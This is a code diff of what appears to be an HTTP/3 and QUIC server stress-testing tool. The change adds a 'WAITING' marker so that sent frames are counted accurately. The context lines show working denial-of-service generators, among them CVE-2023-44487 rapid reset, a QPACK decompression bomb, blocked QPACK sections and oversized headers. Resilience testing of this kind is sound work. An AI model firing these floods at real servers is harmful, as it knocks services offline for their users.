@@ -175,8 +175,10 @@ def frame(kind: int, payload: bytes) -> bytes:
     return varint(kind) + varint(len(payload)) + payload
 
 
-Steps = Iterator[None]
-"""One item for each unit that was sent; the driver moves datagrams between them."""
+Steps = Iterator[object]
+"""One item for each unit that was sent, or `WAITING`; the driver moves datagrams between them."""
+WAITING = object()
+"""The server allows no further request at the moment."""
 
 
 # --- attacks on one connection -------------------------------------------------------------------------------
@@ -186,7 +188,7 @@ def rapid_reset(client: Client) -> Steps:
     """Requests that are cancelled at once (CVE-2023-44487 over HTTP/3)."""
     while True:
         while not client.can_open():
-            yield
+            yield WAITING
         stream = client.request()
         client.quic.stop_stream(stream, H3_REQUEST_CANCELLED)
         yield
@@ -196,7 +198,7 @@ def reset_uploads(client: Client) -> Steps:
     """Requests whose bodies are reset before their end."""
     while True:
         while not client.can_open():
-            yield
+            yield WAITING
         stream = client.request(b"/echo", end=False)
         client.raw(stream, frame(DATA, b"x" * 100))
         client.quic.reset_stream(stream, H3_REQUEST_CANCELLED)
@@ -208,7 +210,7 @@ def unread_responses(client: Client) -> Steps:
     client.withhold_credit()
     while True:
         while not client.can_open():
-            yield
+            yield WAITING
         client.request(b"/large")
         yield
 
@@ -280,7 +282,7 @@ def qpack_blocked(client: Client) -> Steps:
     """Field sections that need insertions which never come (RFC 9204 2.1.2)."""
     while True:
         while not client.can_open():
-            yield
+            yield WAITING
         stream = client.quic.get_next_available_stream_id()
         # Required Insert Count 1 (coded as 2), base 0, then an indexed line of the dynamic table.
         client.raw(stream, frame(HEADERS, b"\x02\x00\x80"), end=True)
@@ -304,7 +306,7 @@ def qpack_bomb(client: Client) -> Steps:
     section = b"\x02\x00" + b"\xd1\xd7\x50\x01x\xc1" + b"\x80" * 1000
     while True:
         while not client.can_open():
-            yield
+            yield WAITING
         client.raw(client.quic.get_next_available_stream_id(), frame(HEADERS, section), end=True)
         yield
 
@@ -313,7 +315,7 @@ def long_headers(client: Client) -> Steps:
     """A field section of a megabyte."""
     while True:
         while not client.can_open():
-            yield
+            yield WAITING
         stream = client.quic.get_next_available_stream_id()
         client.raw(stream, varint(HEADERS) + varint(1 << 20) + b"\x00\x00")
         for _ in range(100):
@@ -327,7 +329,9 @@ def unidirectional_streams(client: Client) -> Steps:
         if client.quic._local_next_stream_id_uni // 4 < client.quic._remote_max_streams_uni:
             stream = client.quic.get_next_available_stream_id(is_unidirectional=True)
             client.raw(stream, varint(0x21) + b"x" * 100)
-        yield
+            yield
+        else:
+            yield WAITING
 
 
 def pings(client: Client) -> Steps:
@@ -388,7 +392,7 @@ def stream_gaps(client: Client) -> Steps:
     """STREAM frames of one byte at every hundredth offset of all streams, so that no two ranges can be joined."""
     while True:
         while not client.can_open():
-            yield
+            yield WAITING
         stream = client.quic.get_next_available_stream_id()
         client.raw(stream, frame(HEADERS, b"\x00\x00\xd4\xd7\x50\x01x\xc1"))
         for at in range(100, 100_000, 100):
@@ -531,7 +535,7 @@ def _on_connection(name: str, address: tuple[str, int], seconds: float) -> Outco
                 client.step(0.005)
                 continue
             try:
-                next(steps)
+                is_sent = next(steps) is not WAITING
             except StreamStopped:
                 client.closed = "the server stopped the stream"
                 break
@@ -539,7 +543,7 @@ def _on_connection(name: str, address: tuple[str, int], seconds: float) -> Outco
                 if client.closed is None:
                     raise RuntimeError(f"{name}: {error}") from error
                 break
-            frames += 1
+            frames += is_sent
             client.step()
         client.step(0.05)
         took = time.monotonic() - began
